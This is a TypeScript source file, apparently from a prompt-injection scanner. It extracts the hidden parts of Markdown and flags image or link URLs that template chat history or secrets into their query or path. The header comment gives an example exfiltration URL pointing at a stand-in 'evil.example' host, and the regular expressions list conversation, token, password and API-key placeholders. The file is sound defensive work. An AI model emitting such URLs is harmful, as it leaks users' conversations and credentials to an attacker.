/**
 * The parts of a Markdown file a model reads apart from its prose: link and image titles, image
 * alt text, reference definitions, comments and front-matter values, each scanned as a text of
 * its own (so the syntax around it neither joins it to nor cuts it from its neighbours). And the
 * URLs of images and links that template conversation data into their query or path: a client
 * that renders `![](https://evil.example/log?q={{conversation}})` sends what the model filled in.
 */
import { findHiddenMarkdown } from './markdown-hidden';

export type MarkdownPartKind = 'link-title' | 'image-alt' | 'reference-title' | 'comment' | 'front-matter';

export interface MarkdownPart {
  kind: MarkdownPartKind;
  /** UTF-16 offset of `text` in the Markdown source, of which it is a slice. */
  index: number;
  text: string;
}

export interface ExfiltrationUrl {
  /** UTF-16 offset and length of the URL in the source. */
  index: number;
  length: number;
  url: string;
}

const MAX_PART = 2000;

// Bounded, and each class excludes its closing character: no pattern backtracks over a line twice.
const PART_PATTERNS: readonly { kind: MarkdownPartKind; pattern: RegExp }[] = [
  { kind: 'image-alt', pattern: /!\[([^[\]\n]{1,2000})\]/g },
  {
    kind: 'link-title',
    pattern: /\]\([^()\s]{0,2048}[ \t]+(?:"([^"\n]{1,2000})"|'([^'\n]{1,2000})'|\(([^()\n]{1,2000})\))[ \t]*\)/g,
  },
  {
    // `[//]: # (…)` is a comment, found with the others.
    kind: 'reference-title',
    pattern:
      /^ {0,3}\[[^\]\n]{1,200}\]:[ \t]*(?!#[ \t]|<>)\S{1,2048}[ \t]+(?:"([^"\n]{1,2000})"|'([^'\n]{1,2000})'|\(([^()\n]{1,2000})\))[ \t]*$/gm,
  },
];
const FRONT_MATTER = /^(?:\uFEFF)?---[ \t]*\r?\n([\s\S]{0,65536}?)\r?\n(?:---|\.\.\.)[ \t]*(?:\r?\n|$)/;
/** What starts a front-matter value: `key: ` or `- `; what follows, indented, continues it. */
const VALUE_START = /^[ \t]*(?:- +)?(?:(?:"[^"\n]{0,200}"|'[^'\n]{0,200}'|[^\s:#"'-][^:\n]{0,200}):(?:[ \t]+|$))?/;
const CONTINUATION = /^[ \t]+(?!- |[^\s:#"'-][^:\n]{0,200}:(?:[ \t]|$))/;

/** The separately read parts of `markdown`, in source order. */
export function findMarkdownParts(markdown: string): MarkdownPart[] {
  const parts: MarkdownPart[] = [];
  for (const { kind, pattern } of PART_PATTERNS) {
    for (const match of markdown.matchAll(pattern)) {
      const group = match.slice(1).findIndex((value) => value !== undefined);
      const text = match[group + 1] as string;
      // The group is the last thing before the closing syntax: it is found from the end.
      const index = match.index + match[0].lastIndexOf(text);
      if (text.trim() !== '') parts.push({ kind, index, text });
    }
  }
  for (const hidden of findHiddenMarkdown(markdown)) {
    if (hidden.kind === 'hidden-element') continue;
    const index = markdown.indexOf(hidden.content, hidden.index);
    if (index !== -1) parts.push({ kind: 'comment', index, text: hidden.content.slice(0, MAX_PART) });
  }
  parts.push(...frontMatterValues(markdown));
  return parts.sort((a, b) => a.index - b.index);
}

/** Every value of the front matter, a folded or block value with its continuation lines. */
function frontMatterValues(markdown: string): MarkdownPart[] {
  const block = FRONT_MATTER.exec(markdown);
  if (!block) return [];
  const parts: MarkdownPart[] = [];
  let at = block[0].indexOf(block[1] as string);
  let last: MarkdownPart | null = null;
  for (const line of (block[1] as string).split('\n')) {
    if (last !== null && CONTINUATION.test(line)) {
      last.text = markdown.slice(last.index, at + line.length);
    } else {
      const key = (VALUE_START.exec(line) as RegExpExecArray)[0];
      // A block scalar's indicator (`>-`, `|`) is syntax; its lines follow.
      const indicator = /^[>|][+-]?\d?[ \t]*$/.test(line.slice(key.length)) ? line.length - key.length : 0;
      last = { kind: 'front-matter', index: at + key.length + indicator, text: line.slice(key.length + indicator) };
      parts.push(last);
    }
    at += line.length + 1;
  }
  return parts
    .filter((part) => part.text.trim() !== '')
    .map((part) => ({ ...part, text: part.text.slice(0, MAX_PART) }));
}

// --- URLs that carry the conversation out -------------------------------------------------------

const URL_PATTERNS: readonly RegExp[] = [
  // A link or image destination, with spaces: `(https://x/?q=<summary of the chat>)`.
  /\]\((?:[ \t]*<)?(https?:\/\/[^()\n]{1,2048})\)/gi,
  /^ {0,3}\[[^\]\n]{1,200}\]:[ \t]*<?(https?:\/\/\S{1,2048})/gim,
  /\b(?:src|href|srcset|action|poster|data)\s*=\s*["']?(https?:\/\/[^"'\s>]{1,2048})/gi,
  /(?<![("'=<\w])(https?:\/\/[^\s"'`()<>\]]{1,2048})/gi,
];
/** What the conversation is called in a placeholder: `{{chat_history}}`, `$HISTORY`, `<user's message>`. */
const DATA =
  "(?:conversation|chat|history|messages?|transcript|dialog(?:ue)?|context|summary|summari[sz]e|prompt|user(?:'s)?[ _-]?(?:input|message|query|data|request)|secrets?|api[ _-]?keys?|tokens?|passwords?|credentials?|env(?:ironment)?)";
const PLACEHOLDER = new RegExp(`(?:\\{|\\$|<|\\[|%7b|%3c)[^{}<>\\[\\]\\n]{0,60}?(?<![a-z])${DATA}`, 'i');
const CAPITALS_PLACEHOLDER =
  /[=/](?:[A-Z0-9]+_)*(?:CONVERSATION|CHAT|HISTORY|MESSAGES?|TRANSCRIPT|SUMMARY|CONTEXT|SECRETS?|TOKEN|PASSWORD|API_KEY)(?:_[A-Z0-9]+)*(?=[&#/)]|$)/;
/** An identifier in a path template (`/threads/{conversation_id}/messages`) is API documentation. */
const IDENTIFIER = /^[^}>\]]{0,60}?(?:_id|_ids|id|uuid|_name|_slug|_number)\s*(?:\}|>|\])/i;

/** URLs whose query or path holds a placeholder for the conversation or a secret, in source order. */
export function findExfiltrationUrls(source: string): ExfiltrationUrl[] {
  const found = new Map<number, ExfiltrationUrl>();
  for (const pattern of URL_PATTERNS) {
    for (const match of source.matchAll(pattern)) {
      const url = (match[1] as string).trimEnd();
      const index = match.index + match[0].indexOf(url);
      if (found.has(index)) continue;
      const rest = url.replace(/^https?:\/\/[^/?#]*/i, '');
      if (templatesData(rest)) found.set(index, { index, length: url.length, url });
    }
  }
  return [...found.values()].sort((a, b) => a.index - b.index);
}

function templatesData(rest: string): boolean {
  if (CAPITALS_PLACEHOLDER.test(rest)) return true;
  const placeholder = PLACEHOLDER.exec(rest);
  return placeholder !== null && !IDENTIFIER.test(rest.slice(placeholder.index + 1));
}
